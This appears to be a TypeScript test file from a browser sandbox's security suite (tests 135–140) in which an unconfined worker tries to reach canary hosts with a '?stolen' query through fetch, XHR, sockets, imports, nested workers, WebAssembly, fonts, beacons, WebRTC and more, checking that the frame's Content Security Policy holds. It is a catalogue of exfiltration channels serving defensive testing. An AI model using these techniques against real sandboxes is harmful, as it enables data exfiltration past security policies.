import { attack } from './support/attack.ts';

// As if every constructor that the runtime takes away had been recovered: a worker of the frame with
// all that the browser offers. What is left is the wall itself, the frame's Content Security Policy.
const unconfined = (number: number, name: string, body: string): void => {
  attack(number, name, {
    worker: `
      self.addEventListener('error', (event) => event.preventDefault());
      const attempt = async (host, url) => { ${body} };
      const all = CANARIES.flatMap((host) => ['http://', 'https://'].map((scheme) =>
        attempt(host, scheme + host + '/?stolen').catch(() => 0)));
      const silence = new Promise((resolve) => setTimeout(resolve, 400));
      port.onmessage = async ({ data: request }) => {
        say({ type: 'loaded', initMs: 1 });
        await Promise.race([Promise.all(all), silence]);
        say({ type: 'response', requestId: request.requestId, body: '1', durationMs: 1 });
      };
      say({ type: 'ready' });`,
    ends: 'response',
    answers: 1,
  });
};

unconfined(
  135,
  'fetch with every mode, by a worker that nobody confined',
  `for (const mode of ['cors', 'no-cors', 'same-origin']) for (const cache of ['default', 'reload', 'force-cache'])
     for (const method of ['GET', 'POST'])
       fetch(new Request(url, { mode, cache, method, keepalive: method === 'POST' })).catch(() => 0);
   await fetch(url, { integrity: 'sha256-x', priority: 'high', credentials: 'include' });`,
);

unconfined(
  136,
  'XMLHttpRequest, sockets and streams, by a worker that nobody confined',
  `for (const sync of [true, false]) try { const x = new XMLHttpRequest(); x.open('POST', url, sync); x.send('x'); } catch {}
   for (const make of [() => new WebSocket('ws://' + host), () => new EventSource(url),
     () => new WebSocketStream('ws://' + host).opened, () => new WebTransport('https://' + host).ready])
     try { Promise.resolve(make()).catch(() => 0); } catch {}`,
);

unconfined(
  137,
  'importScripts and imports with attributes, by a worker that nobody confined',
  `try { importScripts(url); } catch {}
   for (const type of ['json', 'css', 'text', 'bytes', 'webassembly']) (0, eval)('import(url_, { with: { type } })'
     .replace('url_', JSON.stringify(url)).replace('type }', 'type: ' + JSON.stringify(type) + ' }')).catch(() => 0);
   const blob = new Blob(['import ' + JSON.stringify(url)], { type: 'text/javascript' });
   await import(URL.createObjectURL(blob));`,
);

unconfined(
  138,
  'workers in workers that fetch, by a worker that nobody confined',
  `const text = 'fetch(' + JSON.stringify(url) + ').catch(() => 0); try { importScripts(' + JSON.stringify(url) + ') } catch {}'
     + 'const again = new Blob([' + JSON.stringify('fetch(' + JSON.stringify(url) + ')') + ']); new Worker(URL.createObjectURL(again));';
   for (const type of ['classic', 'module']) for (const address of [url, 'data:text/javascript,' + encodeURIComponent(text),
     URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))])
     try { new Worker(address, { type }); } catch {}
   try { new SharedWorker(url); } catch {}
   await new Promise((resolve) => setTimeout(resolve, 200));`,
);

unconfined(
  139,
  'WebAssembly as a stream, fonts and pictures, by a worker that nobody confined',
  `const ways = [() => WebAssembly.compileStreaming(fetch(url)), () => WebAssembly.instantiateStreaming(fetch(url)),
     () => new FontFace('x', 'url(' + url + ')').load(), () => fonts.add(new FontFace('y', 'url(' + url + ')')),
     () => fonts.load('1em y'), () => createImageBitmap(new Blob(['<svg><image href="' + url + '"/></svg>'], { type: 'image/svg+xml' }))];
   for (const way of ways) try { Promise.resolve(way()).catch(() => 0); } catch {}`,
);

unconfined(
  140,
  'reports, caches, background work and navigation, by a worker that nobody confined',
  `const ways = [() => caches.open('x').then((cache) => cache.add(url)), () => indexedDB.open('x'),
     () => navigator.serviceWorker.register(url), () => navigator.storage.getDirectory(), () => navigator.locks.request('x', () => 1),
     () => { location.href = url; }, () => navigator.connection, () => new ReportingObserver(() => 0).observe(),
     () => new BroadcastChannel('playground').postMessage(url), () => navigator.sendBeacon(url),
     () => navigator.gpu.requestAdapter(), () => navigator.permissions.query({ name: 'push' }),
     () => new Notification('x', { icon: url }), () => fetchLater(url), () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + host }] })];
   for (const way of ways) try { Promise.resolve(way()).catch(() => 0); } catch {}
   reportError(Object.assign(new Error(url), { stack: 'Error\\n    at x (' + url + ':1:1)' }));
   (0, eval)('//# sourceURL=' + url + '\\n//# sourceMappingURL=' + url);
   for (const header of ['report-to', 'link']) new Response('', { headers: { [header]: '<' + url + '>; rel=preload' } });`,
);
